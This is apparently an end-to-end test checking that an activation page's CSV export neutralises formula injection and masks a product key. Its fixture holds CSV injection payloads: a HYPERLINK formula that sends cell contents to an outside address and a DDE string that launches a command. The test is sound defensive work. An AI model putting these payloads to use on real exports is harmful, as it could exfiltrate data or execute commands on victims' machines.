import { readFile } from 'node:fs/promises';
import { parse } from 'papaparse';
import { expect, test } from './fixtures/test';
import { keyOf } from './lab-keys';

test('The export is safe, whatever a server says: no formula, no key', async ({ activation, lab }) => {
  await lab.setScenario('healthy');
  const key = keyOf(lab, 'mak', 2025);
  await lab.reinstallServer('node02');
  await lab.changeServer('node02', {
    statusErrorText: `=HYPERLINK("http://example.org/?"&A1)\r\n+cmd|' /C calc'!A0;=1+1 Schlüssel ${key}`
  });
  await activation.openAsItIs();
  await expect(activation.row('node02')).toContainText('Couldn’t check the status');
  const [download] = await Promise.all([activation.page.waitForEvent('download'), activation.action('Export').click()]);
  const text = await readFile(await download.path(), 'utf8');
  const { data: rows } = parse<Record<string, string>>(text, { header: true });
  expect(rows.length).toBe(4);
  const [, { 'The server’s message': said, 'What happened': what }] = rows;
  expect(said).toContain('HYPERLINK');
  expect(said).toContain(`Schlüssel *****-*****-*****-*****-${key.slice(-5)}`);
  expect(said).toContain(";'=1+1");
  for (const line of `${what}\n${said}`.split(/[\r\n;]+/)) {
    expect(line).not.toMatch(/^[\s"]*[=+\-@]/);
  }
  expect(text).not.toContain(key.slice(0, 5));
  expect(text).not.toContain(key.replace(/-/g, ''));
});
